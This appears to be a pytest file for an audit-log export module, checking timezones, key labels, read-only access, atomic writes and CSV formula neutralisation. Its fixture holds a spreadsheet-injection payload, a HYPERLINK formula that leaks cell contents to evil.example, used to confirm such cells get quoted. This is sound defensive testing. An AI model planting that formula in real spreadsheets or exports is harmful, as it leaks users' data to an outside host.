"""Export of the audit trail: every time with its zone, key labels, CSV cells a spreadsheet
cannot run as formulas, JSON Lines that parse; the file appears complete or not at all, and
the database is only read."""

from __future__ import annotations

import csv
import hashlib
import json
import sqlite3
from contextlib import closing
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from flowrisk.audit import Store
from flowrisk.audit.export import EXPORT_COLUMNS, neutralise
from flowrisk.errors import AuditChainBroken, AuditUnavailable, InvalidParameter
from tests.unit.audit.conftest import audit_row

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.fixture
def filled(store: Store) -> tuple[Store, str]:
    key_id, _ = store.create_key("analyst", "Jeanne, financial unit")
    store.append(
        [
            audit_row(1, key_id=key_id, purpose=FORMULA),
            audit_row(2, key_id=key_id, purpose="+33 1 23", entity_id="-E2"),
            audit_row(3, key_id=None, role=None, status=401, purpose="@SUM(A1)"),
            audit_row(4, key_id=key_id, at=datetime(2020, 1, 1, tzinfo=UTC)),
        ]
    )
    return store, key_id


def _digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def test_csv_has_zones_labels_and_no_formulas(filled: tuple[Store, str], tmp_path: Path) -> None:
    store, _ = filled
    out = tmp_path / "audit.csv"
    assert store.export(out, "csv") == 5
    with out.open(newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert list(rows[0]) == EXPORT_COLUMNS
    assert all(datetime.fromisoformat(r["at"]).utcoffset() == timedelta(0) for r in rows)
    assert all(r["at"].endswith("+00:00") for r in rows)
    assert rows[0]["route"] == "flowrisk keys create" and rows[0]["actor"] == ""
    assert [r["key_label"] for r in rows] == ["Jeanne, financial unit"] * 3 + [""] + [
        "Jeanne, financial unit"
    ]
    assert rows[1]["purpose"] == "'" + FORMULA
    assert (rows[2]["purpose"], rows[2]["entity_id"]) == ("'+33 1 23", "'-E2")
    assert rows[3]["purpose"] == "'@SUM(A1)"
    assert not any(v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values())
    assert rows[-1]["row_hash"] == store.check_chain().head_hash


def test_jsonl_parses_with_the_values_as_stored(filled: tuple[Store, str], tmp_path: Path) -> None:
    store, _ = filled
    out = tmp_path / "audit.jsonl"
    assert store.export(out, "jsonl", since=datetime(2026, 1, 1, tzinfo=UTC)) == 4
    rows = [json.loads(line) for line in out.read_text().splitlines()]
    assert [r["id"] for r in rows] == [1, 2, 3, 4]  # row 5 is from 2020
    assert rows[1]["purpose"] == FORMULA  # JSON is for programs: no neutralising
    assert rows[1]["score"] == pytest.approx(0.125001) and rows[3]["status"] == 401
    assert all(r["at"].endswith("+00:00") for r in rows) and rows[0]["key_label"]


def test_cells_that_start_a_formula_are_neutralised() -> None:
    for cell in ("=1+1", "+1", "-1", "@A1", "\tx", "\rx"):
        assert neutralise(cell) == "'" + cell
    assert (
        neutralise("case 1") == "case 1" and neutralise(-1.5) == -1.5 and neutralise(None) is None
    )


def test_export_only_reads_the_database(filled: tuple[Store, str], tmp_path: Path) -> None:
    store, _ = filled
    database = Path(store.engine.url.database or "")
    store.engine.dispose()
    with closing(sqlite3.connect(database, isolation_level=None)) as db:
        db.execute("DROP TRIGGER audit_no_update")
    before = _digest(database)
    reader = Store(f"sqlite:///{database}", read_only=True)
    reader.export(tmp_path / "a.csv")
    reader.engine.dispose()
    assert _digest(database) == before
    with closing(sqlite3.connect(database)) as db:
        triggers = {n for (n,) in db.execute("SELECT name FROM sqlite_master WHERE type='trigger'")}
    assert "audit_no_update" not in triggers  # not re-created behind the operator's back


def test_a_failed_export_leaves_the_previous_file(
    filled: tuple[Store, str], tmp_path: Path
) -> None:
    store, _ = filled
    out = tmp_path / "audit.csv"
    out.write_text("previous export\n")
    store.engine.dispose()
    database = Path(store.engine.url.database or "")
    with closing(sqlite3.connect(database, isolation_level=None)) as db:
        db.execute("DROP TRIGGER audit_no_update")
        db.execute("UPDATE audit SET at = 'not a time' WHERE id = 3")  # unreadable mid-export
    reader = Store(f"sqlite:///{database}", read_only=True)
    with pytest.raises(AuditUnavailable, match="a row cannot be read"):
        reader.export(out, "csv")
    with pytest.raises(AuditChainBroken, match="after row 2 cannot be read") as broken:
        reader.check_chain()
    assert broken.value.row_id == 3
    assert out.read_text() == "previous export\n"
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []
    with pytest.raises(InvalidParameter, match="cannot write"):
        store.export(tmp_path / "audit.csv" / "inside", "csv")  # a file where a folder must be
